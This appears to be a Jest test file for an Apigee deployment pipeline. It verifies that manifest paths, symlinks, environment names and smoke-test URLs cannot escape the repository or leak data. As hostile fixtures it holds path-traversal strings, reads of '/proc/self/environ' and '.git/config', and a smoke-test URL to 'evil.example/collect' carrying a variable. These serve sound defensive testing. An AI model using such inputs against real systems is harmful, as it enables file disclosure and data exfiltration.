import { mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { refused } from '../support/refused-manifest.ts';
import { proxyFiles } from '../support/repository.ts';
import { runPipe } from '../support/run-pipe.ts';
import { codesOf, story, writesIn } from '../support/story.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const orders = proxyFiles('proxies/orders', 'orders');
const withManifest = (text: string, name = 'apigee.yaml') => ({ ...orders, [name]: `version: 1\n${text}` });

describe('What a manifest says of where and how', () => {
  it.each([
    ['bundles: ["../other"]', 'bundles[0] must stay inside the repository'],
    ['bundles: ["/etc"]', 'bundles[0] must stay inside the repository'],
    ['bundles: ["proxies/../../other"]', 'bundles[0] must stay inside the repository'],
    ['bundles: ["{proxies,..}/x"]', 'bundles[0] must stay inside the repository'],
    ['bundles: ["!../x"]', 'bundles[0] must stay inside the repository'],
    ['bundles: ["~/x"]', 'bundles[0] must stay inside the repository'],
    ['mavenConfig: ../config.json', 'mavenConfig must stay inside the repository'],
    ['mavenConfig: /proc/self/environ', 'mavenConfig must stay inside the repository'],
    ['configuration: [../edge.json]', 'configuration[0] must stay inside the repository'],
    ['environments: { "..": {} }', 'must be an environment’s name'],
    ['environments: { test: { organization: "../x" } }', "must be the organization's name"],
  ])('does not leave the clone: %s', async (text, sentence) => {
    await refused(withManifest(`${text}\n`), {}, [sentence]);
  });

  it.each([
    ['bundles: [outside/proxies]', 'outside is, or leads to, no part'],
    ['bundles: ["outside/*"]', 'outside is, or leads to, no part'],
    ['mavenConfig: outside/config.json', 'outside is, or leads to, no part'],
    ['mavenConfig: .git/config', '.git is, or leads to, no part'],
    ['mavenConfig: to-git/config', 'to-git is, or leads to, no part'],
    ['mavenConfig: proxies/up/outside/config.json', 'proxies/up/outside is, or leads to, no part'],
    ['mavenConfig: nowhere/config.json', 'nowhere is, or leads to, no part'],
  ])('does not leave it by a link either: %s', async (text, sentence) => {
    await story({ files: withManifest(`${text}\n`) }, async ({ emulator, repository, run }) => {
      await symlink('/etc', join(repository.path, 'outside'));
      await mkdir(join(repository.path, '.git'));
      await symlink('.git', join(repository.path, 'to-git'));
      await symlink('..', join(repository.path, 'proxies/up'));
      await symlink('nothing', join(repository.path, 'nowhere'));
      const { exitCode, log } = await run();

      expect(exitCode).toBe(2);
      expect(log).toContain(sentence);
      expect(emulator.requests).toEqual([]);
    });
  });

  it('may be reached by a link that stays in the clone', async () => {
    const json = JSON.stringify({ configurations: [{ name: 'test', proxy: [], policy: [], target: [] }] });
    const files = { ...withManifest('mavenConfig: linked/config.json\n'), 'real/config.json': json };
    await story({ files }, async ({ repository, run }) => {
      await symlink('real', join(repository.path, 'linked'));

      expect((await run()).log).not.toContain('leads to');
    });
  });

  it('counts only where the variables leave it open, and is told where it does not', async () => {
    const text = `environments:
  test: { organization: elsewhere, serviceAccount: theirs@acme.iam.gserviceaccount.com, allow: [limit] }
`;
    await story({ files: withManifest(text) }, async ({ emulator, run }) => {
      const { log, result } = await run({
        ALLOW: 'extensible',
        DEPLOYMENT_SERVICE_ACCOUNT: 'serviceAccount:ours@acme.iam.gserviceaccount.com',
      });

      expect(result.apigee.organization).toBe('acme');
      expect(emulator.requests.filter(({ path }) => path.includes('elsewhere'))).toEqual([]);
      expect(JSON.stringify(emulator.requests)).not.toContain('theirs@');
      expect(result.warnings.map(({ where }) => where)).toEqual(
        expect.arrayContaining(['apigee.yaml:3:11', 'apigee.yaml:3:36', 'apigee.yaml:3:89']),
      );
      for (const name of ['APIGEE_ORG', 'DEPLOYMENT_SERVICE_ACCOUNT', 'ALLOW']) {
        expect(log).toContain(`is not used: ${name} decides.`);
      }
    });
  });

  it('of an environment that only looks like the one deployed to is an error', async () => {
    await refused(
      withManifest('environments:\n  prd: { basePath: { prefix: /v2 } }\n'),
      { APIGEE_ENV: 'prod' },
      ['apigee.yaml:3:3: prd is no environment of this run, and prod has no settings', 'Did you mean prod?'],
    );
    await refused(
      withManifest('bundles:\n  - { match: orders, environments: { prd: { allow: [limit] } } }\n'),
      { APIGEE_ENV: 'prod' },
      ['Did you mean prod?'],
    );
  });

  it('of an environment that nothing deploys to is told with its line', async () => {
    await story({ files: withManifest('environments:\n  stage: {}\n') }, async ({ run }) => {
      const { exitCode, result } = await run({ APIGEE_ENV: 'test' });

      expect(exitCode).toBe(0);
      expect(result.warnings.map(({ message }) => message)).toEqual([
        'apigee.yaml:3:3 environments.stage has settings that this run does not use: it deploys to test.',
      ]);
    });
  });
});

describe('The manifest’s file', () => {
  const settings = 'environments: { test: { basePath: { prefix: /v2 } } }\n';

  it('may also be apigee.yml', async () => {
    await story({ files: withManifest(settings, 'apigee.yml') }, async ({ run }) => {
      expect((await run()).result.deployments[0]?.basePaths).toEqual(['/v2/orders']);
    });
  });

  it('is one: of two the other is told', async () => {
    const files = { ...withManifest(settings), ...withManifest('', 'apigee.yml') };
    await story({ files }, async ({ run }) => {
      const { result } = await run();

      expect(result.deployments[0]?.basePaths).toEqual(['/v2/orders']);
      expect(result.warnings.map(({ where }) => where)).toEqual(['apigee.yml']);
    });
  });

  it.each(['apigee.yaml', 'apigee.yml'])('may be a link to a file of the clone: %s', async (name) => {
    await story({ files: withManifest(settings, 'real.yaml') }, async ({ repository, run }) => {
      await symlink('real.yaml', join(repository.path, name));

      expect((await run()).result.deployments[0]?.basePaths).toEqual(['/v2/orders']);
    });
  });

  it.each(['/etc/hosts', 'OUTSIDE', '.git/config', 'nothing.yaml', 'proxies', '/dev/zero'])(
    'is never passed over if it is a link to %s',
    async (target) => {
      const files = { ...orders, '.git/config': `version: 1\n${settings}` };
      await story({ files }, async ({ emulator, repository, run }) => {
        const outside = join(temporaryFolder('outside-'), 'apigee.yaml');
        await writeFile(outside, `version: 1\n${settings}`);
        await symlink(target.replace('OUTSIDE', outside), join(repository.path, 'apigee.yaml'));
        const { exitCode, log } = await run();

        expect(exitCode).toBe(2);
        expect(log).toContain('apigee.yaml');
        expect(emulator.requests).toEqual([]);
      });
    },
  );
});

describe('A committed link', () => {
  it.each([
    ['test-reports', '/tmp'],
    ['test-reports', '.git'],
    ['test-reports', 'nothing'],
    ['test-reports/apigee-pipe', '../..'],
  ])('never makes the pipe report elsewhere: %s to %s', async (name, target) => {
    await story({ files: { ...orders, '.git/config': '' } }, async ({ emulator, repository }) => {
      if (name.includes('/')) await mkdir(join(repository.path, 'test-reports'));
      await symlink(target, join(repository.path, name));
      for (const folder of [{}, { REPORT_DIR: join(repository.path, name, 'reports') }]) {
        const { exitCode, log } = await runPipe({
          directory: repository.path,
          environment: emulator.environment(folder),
        });

        expect(`${log}\n${exitCode}`).toMatch(/\n2$/);
        expect(log).toContain('REPORT_DIR goes by way of');
      }
      expect(emulator.requests).toEqual([]);
      expect(await readdir(join(repository.path, '.git'))).toEqual(['config']);
    });
  });

  it.each([
    ['/tmp', 'false'],
    ['/tmp', 'true'],
    ['.git', 'true'],
  ])('never leads to a baseline: to %s, LINT_BASELINE_WRITE %s', async (target, write) => {
    await story({ files: { ...orders, '.git/config': '' } }, async ({ repository, run }) => {
      await symlink(target, join(repository.path, 'linked'));
      const variables = { LINT_BASELINE: 'linked/baseline.json', LINT_BASELINE_WRITE: write };
      const { exitCode, log } = await run({ ...variables, ACTION: 'lint' });

      expect(`${log}\n${exitCode}`).toMatch(/\n2$/);
      expect(log).toContain('LINT_BASELINE names');
      expect(await readdir(join(repository.path, '.git'))).toEqual(['config']);
    });
  });
});

describe('Smoke tests of another host', () => {
  it.each(['plan', 'deploy'])('are refused before anything is deployed: %s', async (action) => {
    const text = `environments:
  test:
    smokeTests:
      - { url: "https://evil.example/collect?\${SMOKE}" }
      - { url: "/health" }
`;
    await story({ files: withManifest(text) }, async ({ emulator, run }) => {
      const variables = { ACTION: action, MANIFEST_VARIABLES: 'SMOKE', SMOKE: 'planted-value' };
      const { exitCode, log, result } = await run(variables);

      expect(exitCode).toBe(2);
      expect(log).toContain('SMOKE_HOSTS does not list it');
      expect(`${log}${JSON.stringify(result)}`).not.toContain('planted-value');
      expect(writesIn(emulator)).toEqual([]);
    });
  });
});

describe('Names that an address would fold away', () => {
  it.each([
    { APIGEE_ENV: '..' },
    { APIGEE_ENV: '.' },
    { APIGEE_ENV: 'test/../prod' },
    { APIGEE_ENV: 'test%2f..' },
    { APIGEE_ORG: '..' },
    { APIGEE_ORG: 'acme/environments' },
    { APIGEE_ORG: 'acme?x=1' },
    { APIGEE_ORG: 'acme#' },
  ])('are refused: %j', async (variables) => {
    const [name = ''] = Object.keys(variables);
    await refused(orders, variables, [`${name} must`]);
  });

  it.each(['.', '..', '...'])('are refused as a bundle’s: %s', async (name) => {
    const descriptor = 'proxies/orders/apiproxy/orders.xml';
    const files = { ...orders, [descriptor]: `<APIProxy name="${name}"/>` };
    await story({ files }, async ({ emulator, run }) => {
      const ending = await run();

      expect(ending.exitCode).toBe(1);
      expect(codesOf(ending)).toEqual(['bundle-invalid']);
      expect(emulator.requests).toEqual([]);
    });
  });
});
